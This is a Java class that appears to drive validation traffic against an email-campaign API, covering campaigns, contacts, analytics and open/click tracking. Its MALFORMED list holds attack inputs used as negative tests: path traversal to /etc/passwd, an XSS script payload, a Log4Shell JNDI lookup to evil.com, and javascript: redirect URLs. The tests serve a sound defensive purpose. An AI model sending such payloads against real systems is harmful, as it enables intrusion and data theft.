package io.mailblast.validation.traffic;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.mailblast.validation.engine.Call;
import io.mailblast.validation.engine.Outcome;
import io.mailblast.validation.http.HttpRequests;
import io.mailblast.validation.http.KeepAliveConnection;
import io.mailblast.validation.installation.ApiClient;
import io.mailblast.validation.plan.Endpoint;
import java.io.IOException;
import java.util.List;
import java.util.Optional;
import java.util.Queue;
import java.util.concurrent.ConcurrentLinkedQueue;
import java.util.concurrent.ThreadLocalRandom;
import java.util.concurrent.atomic.AtomicLong;

/// What each arrival of a plan asks, and whether its answer is right. Keeps account of what must be
/// there afterwards.
public final class Traffic {

    private static final int CREATED = 201;
    private static final List<String> MALFORMED = List.of(
            "/track/open/..%2F..%2F..%2Fetc%2Fpasswd",
            "/track/open/%3Cscript%3Ealert(1)%3C%2Fscript%3E",
            "/track/open/$%7Bjndi:ldap:%2F%2Fevil.com%7D",
            "/track/open/a.b",
            "/track/open/" + "a".repeat(65),
            "/track/click/abc?url=javascript:alert(1)",
            "/track/click/abc?url=amF2YXNjcmlwdDphbGVydCgxKQ");

    private final String base;
    private final Sessions sessions;
    private final TrackedLinks links;
    private final long seedCampaign;
    private final long list;
    private final String sender;
    private final String mark;
    private final UserAgents agents;
    private final AtomicLong numbers = new AtomicLong();
    private final Queue<Long> drafts = new ConcurrentLinkedQueue<>();
    private final Queue<Long> sent = new ConcurrentLinkedQueue<>();
    private final Kept opens = new Kept();
    private final Kept clicks = new Kept();
    private final Kept campaigns = new Kept();
    private final Kept contacts = new Kept();

    /// @param links of mails that were really sent; may be empty where a plan tracks nothing
    /// @param seedCampaign of those mails
    /// @param list that campaigns of the run go to
    /// @param mark of the run
    public Traffic(
            String base,
            Sessions sessions,
            TrackedLinks links,
            long seedCampaign,
            long list,
            String sender,
            String mark) {
        this.base = base;
        this.sessions = sessions;
        this.links = links;
        this.seedCampaign = seedCampaign;
        this.list = list;
        this.sender = sender;
        this.mark = mark;
        this.agents = new UserAgents(mark);
    }

    /// Opens of the seed campaign.
    public Kept opens() {
        return opens;
    }

    public Kept clicks() {
        return clicks;
    }

    public Kept campaigns() {
        return campaigns;
    }

    public Kept contacts() {
        return contacts;
    }

    /// Campaigns that were told to send, and answered so.
    public List<Long> sent() {
        return List.copyOf(sent);
    }

    public long seedCampaign() {
        return seedCampaign;
    }

    public TrackedLinks links() {
        return links;
    }

    /// What campaigns of the run are made of; their names go on with what tells them apart.
    public ObjectNode campaignFields() {
        ObjectNode campaign = ApiClient.JSON
                .createObjectNode()
                .put("name", "Load " + mark + "-")
                .put("subject", "News of the week")
                .put("from_name", "The Garden Letter")
                .put("from_email", sender)
                .put(
                        "content",
                        "<html><body><p>Dear {{ first_name | default: \"reader\" }}, <a"
                                + " href=\"https://garden.example/week\">the news</a>.</p></body></html>");
        campaign.putArray("list_ids").add(list);
        return campaign;
    }

    /// Takes account of a request that somebody else made in this traffic's place.
    public void seen(Endpoint endpoint, Outcome outcome) {
        switch (outcome) {
            case GOOD -> account(endpoint).ifPresent(Kept::done);
            // Made, whatever else was wrong with the answer.
            case WRONG_ANSWER -> account(endpoint).ifPresent(Kept::done);
            case SERVER_ERROR, TIMEOUT, RESET -> unknown(endpoint, 1);
            case UNEXPECTED, SHED, NEVER_SENT -> {}
        }
    }

    /// Takes account of requests of which nobody knows what became of them.
    public void unknown(Endpoint endpoint, long count) {
        account(endpoint).ifPresent(kept -> kept.unknown(count));
    }

    /// A campaign that somebody else made, and that may be sent.
    public void drafted(long campaign) {
        drafts.add(campaign);
    }

    private Optional<Kept> account(Endpoint endpoint) {
        return switch (endpoint) {
            case TRACK_OPEN, TRACK_UNSEEN -> Optional.of(opens);
            case TRACK_CLICK -> Optional.of(clicks);
            case CAMPAIGN_CREATE -> Optional.of(campaigns);
            case CONTACT_CREATE -> Optional.of(contacts);
            default -> Optional.empty();
        };
    }

    public Call call(Endpoint endpoint) {
        return switch (endpoint) {
            case CAMPAIGN_CREATE -> this::createCampaign;
            case CAMPAIGN_LIST -> connection -> get(connection, "/campaigns");
            case CAMPAIGN_SEND -> this::send;
            case CAMPAIGN_STATS -> connection -> get(connection, "/campaigns/" + seedCampaign + "/stats");
            case CONTACT_LIST -> connection -> get(connection, "/contacts?limit=50");
            case CONTACT_CREATE -> this::createContact;
            case LOGIN -> sessions::login;
            case REFRESH -> sessions::refresh;
            case ANALYTICS_OVERVIEW -> connection -> get(connection, "/analytics/overview");
            case ANALYTICS_TIMELINE -> connection -> get(connection, "/analytics/timeline?range=30d");
            case ANALYTICS_TOP_LINKS -> connection -> get(connection, "/analytics/top-links?limit=10");
            case ANALYTICS_RECENT -> connection -> get(connection, "/analytics/events/recent?limit=25");
            case TRACK_OPEN -> connection -> open(connection, agents.known(random(Integer.MAX_VALUE)));
            case TRACK_UNSEEN -> connection -> open(connection, agents.unseen());
            case TRACK_CLICK -> this::click;
            case TRACK_MALFORMED -> this::malformed;
            case CONTACTS_IMPORT -> throw new IllegalArgumentException("an import is a job, no request");
        };
    }

    /// Exchanges tokens that end soon.
    public void keepFresh(KeepAliveConnection connection) throws IOException {
        sessions.keepFresh(connection);
    }

    private Outcome get(KeepAliveConnection connection, String path) throws IOException {
        return judge(
                connection, connection.exchange(HttpRequests.get(base, path, "Validation/1", sessions.header())), 200);
    }

    private Outcome createCampaign(KeepAliveConnection connection) throws IOException {
        Created created = create(connection, "/campaigns", campaign(), campaigns);
        if (created.outcome == Outcome.GOOD) {
            drafts.add(created.id);
        }
        return created.outcome;
    }

    private ObjectNode campaign() {
        ObjectNode campaign = campaignFields();
        return campaign.put("name", campaign.path("name").asText() + numbers.incrementAndGet());
    }

    /// Sends a draft that somebody made; where there is none, makes one first, which is measured with it.
    private Outcome send(KeepAliveConnection connection) throws IOException {
        Long draft = drafts.poll();
        if (draft == null) {
            Created made = create(connection, "/campaigns", campaign(), campaigns);
            if (made.outcome != Outcome.GOOD) {
                return made.outcome;
            }
            draft = made.id;
        }
        int status = connection.exchange(
                HttpRequests.postJson(base, "/campaigns/" + draft + "/send", sessions.header(), ""));
        if (status == 202) {
            sent.add(draft);
        }
        return judge(connection, status, 202);
    }

    private Outcome createContact(KeepAliveConnection connection) throws IOException {
        ObjectNode contact = ApiClient.JSON
                .createObjectNode()
                .put("email", "person" + numbers.incrementAndGet() + "@" + mark + ".example")
                .put("first_name", "Robin");
        return create(connection, "/contacts", contact, contacts).outcome;
    }

    private record Created(Outcome outcome, long id) {}

    private Created create(KeepAliveConnection connection, String path, ObjectNode body, Kept account)
            throws IOException {
        KeepAliveConnection.Answer answer;
        try {
            answer = connection.ask(HttpRequests.postJson(base, path, sessions.header(), body.toString()));
        } catch (IOException e) {
            account.unknown();
            throw e;
        }
        if (answer.status() != CREATED) {
            if (answer.status() >= 500) {
                account.unknown();
            }
            return new Created(Outcome.ofUnexpected(answer.status(), answer.saysWhen()), 0);
        }
        account.done();
        JsonNode id = ApiClient.JSON.readTree(answer.body()).path("data").path("id");
        return id.isIntegralNumber() ? new Created(Outcome.GOOD, id.asLong()) : new Created(Outcome.WRONG_ANSWER, 0);
    }

    private Outcome open(KeepAliveConnection connection, String agent) throws IOException {
        String path = links.openPaths().get(random(links.openPaths().size()));
        return track(connection, path, agent, 200, opens);
    }

    private Outcome click(KeepAliveConnection connection) throws IOException {
        String path = links.clickPaths().get(random(links.clickPaths().size()));
        return track(connection, path, agents.known(random(Integer.MAX_VALUE)), 302, clicks);
    }

    private Outcome track(KeepAliveConnection connection, String path, String agent, int expected, Kept account)
            throws IOException {
        int status;
        try {
            status = connection.exchange(HttpRequests.get(base, path, agent));
        } catch (IOException e) {
            account.unknown();
            throw e;
        }
        if (status == expected) {
            account.done();
        } else if (status >= 500 && !connection.saysWhen()) {
            account.unknown();
        }
        return judge(connection, status, expected);
    }

    private Outcome malformed(KeepAliveConnection connection) throws IOException {
        String path = MALFORMED.get(random(MALFORMED.size()));
        int status = connection.exchange(HttpRequests.get(base, path, "scanner"));
        return status == 404 ? Outcome.GOOD : judge(connection, status, 400);
    }

    private static Outcome judge(KeepAliveConnection connection, int status, int expected) {
        return status == expected ? Outcome.GOOD : Outcome.ofUnexpected(status, connection.saysWhen());
    }

    private static int random(int below) {
        return ThreadLocalRandom.current().nextInt(below);
    }
}
